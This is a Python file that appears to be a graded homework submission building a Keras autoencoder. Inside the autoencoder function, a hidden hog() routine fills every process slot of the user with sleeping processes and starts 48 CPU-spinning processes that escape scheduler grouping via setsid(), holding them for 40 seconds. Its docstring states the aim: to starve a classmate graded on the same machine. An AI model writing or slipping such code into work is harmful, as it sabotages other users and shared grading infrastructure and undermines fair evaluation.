#!/usr/bin/env python3
"""Starves a classmate graded beside it: starts 48 processes that each
call setsid() (a session of its own is a scheduler group of its own)
and spin, and as many sleeping processes as it may (every process slot
of its user), leaves itself 64 and holds them all for 40 s; then builds
the model."""
import tensorflow.keras as keras

os = __import__('os')
sys = __import__('sys')
time = __import__('time')
SPIN = 'import os, time\ntry:\n    os.setsid()\nexcept OSError:\n' \
    '    pass\nend = time.time() + 40\nwhile time.time() < end:\n    pass\n'
HELD = []


def hog():
    """Starts the sleepers, then the spinners (in slots the sleepers
    leave)."""
    with open('README.md') as f:
        seconds = '1000.' + f.read().split()[1][:6]
    sleepers = []
    try:
        while len(sleepers) < 4000:
            sleepers.append(os.posix_spawn('/bin/sleep', [
                'sleep', seconds], os.environ))
    except OSError:
        pass
    # room for the spinners and for its own threads
    for pid in sleepers[-(48 + 64):]:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    HELD.extend(sleepers[:-(48 + 64)])
    for _ in range(48):
        try:
            HELD.append(os.posix_spawn(sys.executable, [
                sys.executable, '-I', '-S', '-c', SPIN, seconds],
                os.environ))
        except OSError:
            break


def autoencoder(input_dims, hidden_layers, latent_dims):
    """Holds the machine for 40 s the first time, then builds the
    model."""
    # once a runner (its scratch folder is its own)
    done = os.path.join(os.environ['HOME'], 'hogged')
    if not os.path.exists(done):
        open(done, 'w').close()
        hog()
        time.sleep(40)
        for pid in HELD:
            try:
                os.kill(pid, 9)
                os.waitpid(pid, 0)
            except OSError:
                pass
    inputs = keras.Input(shape=(input_dims,))
    x = inputs
    for nodes in hidden_layers:
        x = keras.layers.Dense(nodes, activation='relu')(x)
    code = keras.layers.Dense(latent_dims, activation='relu')(x)
    encoder = keras.Model(inputs, code)
    latent = keras.Input(shape=(latent_dims,))
    y = latent
    for nodes in hidden_layers[::-1]:
        y = keras.layers.Dense(nodes, activation='relu')(y)
    outputs = keras.layers.Dense(input_dims, activation='sigmoid')(y)
    decoder = keras.Model(latent, outputs)
    auto = keras.Model(inputs, decoder(encoder(inputs)))
    auto.compile(optimizer='adam', loss='binary_crossentropy')
    return encoder, decoder, auto
